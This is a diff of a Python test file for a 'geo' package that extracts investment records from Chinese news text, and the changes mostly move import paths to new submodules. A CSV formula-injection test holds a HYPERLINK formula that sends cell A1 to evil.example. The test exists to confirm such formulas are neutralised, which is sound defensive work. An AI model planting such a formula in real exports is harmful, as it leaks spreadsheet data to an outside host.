@@ -12,13 +12,13 @@ import sqlite3
 
 import pytest
 
-from geo import corrections
+from geo.store import corrections
 from geo.cli import main
-from geo.corrections import CorrectionError, corrections_path
+from geo.store.corrections import CorrectionError, corrections_path
 from geo.errors import StoreError
-from geo.export import to_csv, to_geojson
+from geo.store.export import to_csv, to_geojson
 from geo.extract.amounts import find_amounts
-from geo.store import read_records
+from geo.store.gpkg import read_records
 
 
 @pytest.fixture
@@ -175,7 +175,7 @@ def test_absurd_amounts_are_no_amounts(text):
 
 def test_extracted_range_is_ordered_end_to_end():
     from geo.extract import extract_records
-    from geo.ingest import ingest_text
+    from geo.ingest.read import ingest_text
 
     article = ingest_text("太原市小店区签约氢能项目，总投资40至20亿元。", "r.txt", title="标题")
     (record,) = extract_records(article)
@@ -184,7 +184,7 @@ def test_extracted_range_is_ordered_end_to_end():
 
 # ---------------------------------------------------------------- 12. CSV formula injection
 def test_formulas_in_csv_cells_are_neutralised(db, tmp_path, capsys):
-    from geo import uploads
+    from geo.web import uploads
 
     title = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
     report = uploads.add_pasted(db, "太原市小店区签约氢能项目，总投资30亿元。", title=title)
